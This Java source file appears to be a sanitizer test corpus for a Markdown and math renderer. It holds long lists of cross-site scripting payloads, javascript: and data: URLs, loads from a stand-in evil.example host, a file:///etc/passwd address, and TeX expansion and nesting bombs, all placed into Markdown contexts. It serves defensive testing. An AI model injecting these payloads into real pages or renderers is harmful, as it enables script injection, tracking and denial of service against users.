package dev.earnest.platform.render;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/// Hostile texts, most of them combined from attacks and the places they stand in. The attacks are the
/// usual ones: those of the filter evasion lists, of past advisories on Markdown and mathematics, and
/// markup that sanitizers have misread when it was parsed twice.
public final class PayloadCorpus {
    private PayloadCorpus() {}

    public static List<Payload> all() {
        List<Payload> all = new ArrayList<>();
        all.addAll(markupInPlaces());
        all.addAll(links());
        all.addAll(formulas());
        all.addAll(fences());
        all.addAll(HiddenPayloads.all());
        return all;
    }

    /// Markup that runs a script, loads something, breaks out or takes a name of the page.
    static final List<String> MARKUP =
            List.of(
                    "<script>alert(1)</script>",
                    "<ScRiPt>alert(1)</sCrIpT>",
                    "<script src=//evil.example/x.js></script>",
                    "<script\n>alert(1)</script\n>",
                    "<script/x>alert(1)</script>",
                    "<scr<script>ipt>alert(1)</scr</script>ipt>",
                    "<img src=x onerror=alert(1)>",
                    "<img src=x onerror=\"alert(1)\"//",
                    "<img/src/onerror=alert(1)>",
                    "<img src=\"http://evil.example/pixel.png\">",
                    "<img srcset=\"http://evil.example/p.png 2x\">",
                    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\"\\>",
                    "<svg onload=alert(1)>",
                    "<svg/onload=alert(1)//",
                    "<svg><script>alert(1)</script></svg>",
                    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=20 y=20>x</text></a></svg>",
                    "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)/>#x\"/></svg>",
                    "<svg><foreignObject><iframe src=javascript:alert(1)></iframe></foreignObject></svg>",
                    "<svg><style><img src=x onerror=alert(1)></style></svg>",
                    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
                            + " onerror=alert(1)&gt;\">",
                    "<math><maction actiontype=statusline#http://evil.example"
                            + " xlink:href=javascript:alert(1)>x</maction></math>",
                    "<math><annotation-xml encoding=\"text/html\"><img src=x onerror=alert(1)>"
                            + "</annotation-xml></math>",
                    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
                    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
                    "<iframe src=javascript:alert(1)></iframe>",
                    "<iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>",
                    "<object data=javascript:alert(1)></object>",
                    "<embed src=javascript:alert(1)>",
                    "<body onload=alert(1)>",
                    "<input onfocus=alert(1) autofocus>",
                    "<details open ontoggle=alert(1)>x</details>",
                    "<video><source onerror=alert(1)></video>",
                    "<audio src=x onerror=alert(1)>",
                    "<marquee onstart=alert(1)>x</marquee>",
                    "<link rel=stylesheet href=http://evil.example/x.css>",
                    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                    "<base href=http://evil.example/>",
                    "<style>@import 'http://evil.example/x.css';</style>",
                    "<p style=\"background:url(http://evil.example/x.png)\">x</p>",
                    "<div style=\"position:fixed;inset:0\">x</div>",
                    "<form action=javascript:alert(1)><button>x</button></form>",
                    "<button formaction=javascript:alert(1)>x</button>",
                    "<a href=javascript:alert(1)>x</a>",
                    "<a href=\"&#106;avascript:alert(1)\">x</a>",
                    "<a id=location name=location href=x>x</a>",
                    "<form id=x><input name=attributes></form>",
                    "<p onclick='alert(1)' onmouseover=alert(1)>x</p>",
                    "<x onpointerenter=alert(1) contenteditable autofocus onfocus=alert(1)>x</x>",
                    "<template><script>alert(1)</script></template>",
                    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
                    "<select><option><style></option></select><img src=x onerror=alert(1)></style>",
                    "<textarea></textarea><img src=x onerror=alert(1)>",
                    "<title></title><img src=x onerror=alert(1)>",
                    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\">",
                    "<plaintext><img src=x onerror=alert(1)>",
                    "<!--><img src=x onerror=alert(1)>-->",
                    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
                    "<![CDATA[<img src=x onerror=alert(1)>]]>",
                    "<?xml-stylesheet href=\"javascript:alert(1)\"?>",
                    "<!DOCTYPE x [<!ENTITY y \"<script>alert(1)</script>\">]>&y;",
                    "&lt;script&gt;alert(1)&lt;/script&gt;",
                    "&#60;script&#62;alert(1)&#60;/script&#62;",
                    "\"><img src=x onerror=alert(1)>",
                    "'><svg onload=alert(1)>",
                    "</code></pre></div></td></table><script>alert(1)</script>",
                    "</span></p></div><img src=x onerror=alert(1)>",
                    "{{constructor.constructor('alert(1)')()}}",
                    "${alert(1)} #{alert(1)} <%= alert(1) %>",
                    "]]></style></script></title></textarea><img src=x onerror=alert(1)>",
                    "<\u0000script>alert(1)</script>",
                    "<sc\u0000ript>alert(1)</sc\u0000ript>",
                    "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
                    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-");

    private static final Map<String, String> PLACES =
            new LinkedHashMap<>(
                    Map.ofEntries(
                            Map.entry("a paragraph", "before %s after"),
                            Map.entry("a block", "%s\n\nafter"),
                            Map.entry("a heading", "# %s"),
                            Map.entry("a list", "- one\n- %s\n  - %s"),
                            Map.entry("a quote", "> > %s"),
                            Map.entry("a table", "| a | %s |\n|---|---|\n| %s | b |"),
                            Map.entry("emphasis", "**x *%s* y**"),
                            Map.entry("code", "`%s`"),
                            Map.entry("a fence", "```html\n%s\n```"),
                            Map.entry("a link text", "[%s](https://example.org)"),
                            Map.entry("a picture", "![%s](https://example.org/x.png \"%s\")"),
                            Map.entry("a formula", "$%s$ and\n\n$$\n%s\n$$")));

    private static List<Payload> markupInPlaces() {
        List<Payload> all = new ArrayList<>();
        PLACES.forEach((place, template) ->
                MARKUP.forEach(markup ->
                        all.add(
                                new Payload(
                                        markup + " in " + place, template.replace("%s", markup)))));
        return all;
    }

    private static final List<String> ADDRESSES =
            List.of(
                    "javascript:alert(1)",
                    "JaVaScRiPt:alert(1)",
                    "javascript&colon;alert(1)",
                    "javascript&#58;alert(1)",
                    "javascript&#x3a;alert(1)",
                    "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
                    "java&#10;script:alert(1)",
                    "java&Tab;script:alert(1)",
                    "java&NewLine;script:alert(1)",
                    "&#1;javascript:alert(1)",
                    "&#32;javascript:alert(1)",
                    "\u00A0javascript:alert(1)",
                    "\u200Bjavascript:alert(1)",
                    "java\u00ADscript:alert(1)",
                    "java\\script:alert(1)",
                    "javascript\\:alert(1)",
                    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
                    "javascript://example.org/%0aalert(1)",
                    "javascript:alert(1)//http://example.org",
                    "vbscript:msgbox(1)",
                    "livescript:alert(1)",
                    "data:text/html,<script>alert(1)</script>",
                    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
                    "data:image/svg+xml,<svg/onload=alert(1)>",
                    "blob:https://example.org/x",
                    "filesystem:https://example.org/x",
                    "file:///etc/passwd",
                    "view-source:https://example.org",
                    "intent://example.org#Intent;scheme=http;end",
                    "feed:javascript:alert(1)",
                    "jar:https://example.org!/x",
                    "about:blank",
                    "//evil.example/x",
                    "\\\\evil.example\\x",
                    "/\\evil.example",
                    "https:/evil.example",
                    "https:evil.example",
                    "http:\\\\evil.example",
                    "https://user:password@evil.example",
                    "https://example.org\\@evil.example",
                    "https://example.org%5c@evil.example",
                    "https://",
                    "https://?x",
                    "https://[::1",
                    "https://example.org:99999999",
                    "/logout",
                    "../../admin",
                    "#x",
                    "?x=1",
                    "mailto:a@b.c?bcc=d@e.f&body=x",
                    "mailto:javascript:alert(1)",
                    "tel:+123",
                    "ssh://evil.example",
                    "http://example.org/\"onmouseover=\"alert(1)",
                    "http://example.org/'onmouseover='alert(1)",
                    "http://example.org/&quot; onclick=&quot;alert(1)",
                    "http://example.org/`onmouseover=alert(1)",
                    "http://example.org/<script>alert(1)</script>",
                    "http://\u0430pple.example/",
                    "http://example.org/\u202Egnp.exe",
                    "http://\uD800.example/",
                    "http://example.org/{{constructor}}");

    private static final Map<String, String> LINKS =
            new LinkedHashMap<>(
                    Map.of(
                            "a link", "[x](%s)",
                            "a link in brackets", "[x](<%s>)",
                            "a link with a title", "[x](%s \"\\\" onclick=alert(1) x=\\\"\")",
                            "a reference", "[x][r]\n\n[r]: %s",
                            "a reference in brackets", "[r]\n\n[r]: <%s> 'x'",
                            "an autolink", "<%s>",
                            "a picture", "![x](%s)",
                            "a picture in a link", "[![x](%s)](%s)"));

    private static List<Payload> links() {
        List<Payload> all = new ArrayList<>();
        LINKS.forEach((place, template) ->
                ADDRESSES.forEach(address ->
                        all.add(
                                new Payload(
                                        address + " as " + place,
                                        template.replace("%s", address)))));
        return all;
    }

    private static final List<String> TEX =
            List.of(
                    "\\href{javascript:alert(1)}{x}",
                    "\\url{javascript:alert(1)}",
                    "\\includegraphics{http://evil.example/x.png}",
                    "\\includegraphics[alt=\\\"><img src=x onerror=alert(1)>]{x}",
                    "\\htmlClass{x}{y}",
                    "\\htmlId{location}{x}",
                    "\\htmlStyle{position:fixed}{x}",
                    "\\htmlData{x=y}{z}",
                    "\\text{<img src=x onerror=alert(1)>}",
                    "\\text{</span><script>alert(1)</script>}",
                    "\\unknown<img src=x onerror=alert(1)>",
                    "\\begin{x}<svg onload=alert(1)>",
                    "\\frac{<img/src/onerror=alert(1)>",
                    "\\color{red;background:url(http://evil.example)}x",
                    "\\textcolor{#000\\\" onclick=alert(1)}{x}",
                    "\\fcolorbox{red}{url(http://evil.example)}{x}",
                    "\\pmb{x}\\fcolorbox{red}{blue}{y}",
                    "\\char60 script\\char62",
                    "\\unicode{<script>}",
                    "\\def\\x{\\x\\x}\\x",
                    "\\def\\a{\\b\\b}\\def\\b{\\c\\c}\\def\\c{\\d\\d}\\def\\d{\\e\\e}\\def\\e{xx}\\a",
                    "\\newcommand\\x[1]{\\x{#1}\\x{#1}}\\x{y}",
                    "\\gdef\\alpha{<script>}\\alpha",
                    "\\rule{1000000em}{1000000em}",
                    "\\hspace{-10000em}x\\kern10000em",
                    "\\raisebox{1000000pt}{x}",
                    "\\Huge\\Huge\\Huge x",
                    "{".repeat(3_000),
                    "{".repeat(1_500) + "}".repeat(1_500),
                    "\\sqrt{".repeat(400) + "x" + "}".repeat(400),
                    "x^{".repeat(600) + "x" + "}".repeat(600),
                    "\\left(".repeat(500),
                    "\\begin{matrix}".repeat(200),
                    "\\tag{<b>x</b>}x",
                    "\\verb|<img src=x onerror=alert(1)>|",
                    "%<img src=x onerror=alert(1)>\n x",
                    "\\text{\u202Egnp.exe}",
                    "\\catcode`<=13");

    private static List<Payload> formulas() {
        List<Payload> all = new ArrayList<>();
        for (String tex : TEX) {
            String name = tex.substring(0, Math.min(60, tex.length()));
            all.add(new Payload(name + " in dollars", "a $" + tex + "$ b"));
            all.add(new Payload(name + " in two dollars", "$$" + tex + "$$"));
            all.add(new Payload(name + " on lines", "$$\n" + tex + "\n$$"));
            all.add(new Payload(name + " in parentheses", "\\(" + tex + "\\)"));
            all.add(new Payload(name + " in brackets", "\\[\n" + tex + "\n\\]"));
        }
        return all;
    }

    private static List<Payload> fences() {
        List<Payload> all = new ArrayList<>();
        for (String info :
                List.of(
                        "html onload=alert(1)",
                        "\"><img src=x onerror=alert(1)>",
                        "x\" onclick=\"alert(1)",
                        "x' onclick='alert(1)",
                        "&quot;&gt;&lt;script&gt;",
                        "language-x hljs mark note",
                        "../../etc",
                        "constructor",
                        "__proto__",
                        "toString",
                        "c++",
                        "c#",
                        "{.python .numberLines}",
                        "a".repeat(500),
                        "\u202Epython",
                        "python\u0000",
                        "&#10;onclick=alert(1)")) {
            for (String fence : List.of("```", "~~~", "`````")) {
                all.add(
                        new Payload(
                                "fence " + fence + info,
                                fence + info + "\n<script>alert(1)</script>\n" + fence));
            }
        }
        return all;
    }
}
